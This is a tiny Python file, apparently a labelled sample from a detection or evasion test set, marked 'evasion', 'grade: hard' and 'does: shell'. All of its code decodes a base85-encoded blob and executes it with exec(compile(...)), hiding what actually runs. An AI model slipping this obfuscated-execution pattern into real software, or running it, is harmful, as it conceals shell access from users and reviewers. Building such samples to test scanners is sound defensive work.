# evasion: base85-encoded code compiled and run
# grade: hard; does: shell
import base64
exec(compile(base64.b85decode(b"V{dLrb#7!WX>4UIcW7m0Y%XYRZEO$m"), "<x>", "exec"))
